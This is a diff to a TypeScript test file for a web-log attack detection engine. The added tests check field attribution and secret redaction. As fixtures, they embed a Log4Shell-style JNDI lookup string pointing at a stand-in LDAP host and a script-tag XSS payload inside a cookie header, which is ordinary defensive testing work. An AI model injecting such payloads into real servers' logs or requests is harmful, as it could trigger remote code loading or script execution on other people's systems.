@@ -1,6 +1,6 @@
 import { createEngine } from '@vigil/detection';
 import { createLineParser } from '@vigil/detection/formats/line-parser';
-import type { RuleMatch, ScoredRequest } from '@vigil/shared/contracts';
+import { ruleMatchSchema, type RuleMatch, type ScoredRequest } from '@vigil/shared/contracts';
 import { expect, it } from 'vitest';
 import { logLine } from '../testing/line-batch.ts';
 import { toScoredRequest } from './scored-request.ts';
@@ -147,4 +147,25 @@ it('cuts an excerpt that grew while secrets were taken out where a character beg
   expect(match?.excerpt).toMatch(/^password=\*\*\*&/);
   expect(match?.excerpt.length).toBeLessThanOrEqual(200);
   expect(match?.excerpt.isWellFormed()).toBe(true);
+});
+
+it('tells of evidence in headers and names what releases before understand, beside what it is', () => {
+  const jndi = '${jndi:ldap://a.example/b}';
+  const line = `10.0.0.1 - ${jndi} [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8" "${jndi}"`;
+  const { matches, line: stored } = eventOf(line);
+  expect(matches.map(({ field, laterField }) => [field, laterField])).toEqual([['request_line', 'header']]);
+  expect(stored.slice(...matches[0]!.lineSpan!)).toContain(jndi);
+  const ofUser = eventOf(line.replace(` "${jndi}"`, ''));
+  expect(ofUser.matches.map(({ laterField }) => laterField)).toEqual(['remote_user']);
+  expect(ofUser.line.slice(...ofUser.matches[0]!.lineSpan!)).toBe(jndi);
+  const read = ruleMatchSchema.parse(JSON.parse(JSON.stringify({ ...matches[0], laterField: 'of_next_year' })));
+  expect([read.field, read.laterField]).toEqual(['request_line', undefined]);
+});
+
+it('stores no cookies of a line that is an attack by one of them', () => {
+  const cookies = `lang=de; PHPSESSID=${SECRET}; seen=<script>alert(1)</script>; auth_token=${SECRET}`;
+  const event = eventOf(`10.0.0.1 - - [02/Mar/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "curl/8" "${cookies}"`);
+  expect(event.matches.map(({ laterField }) => laterField)).toEqual(['header']);
+  expect(event.line).toContain('PHPSESSID=***; seen=<script>');
+  expect(JSON.stringify(event)).not.toContain('hunter2');
 });
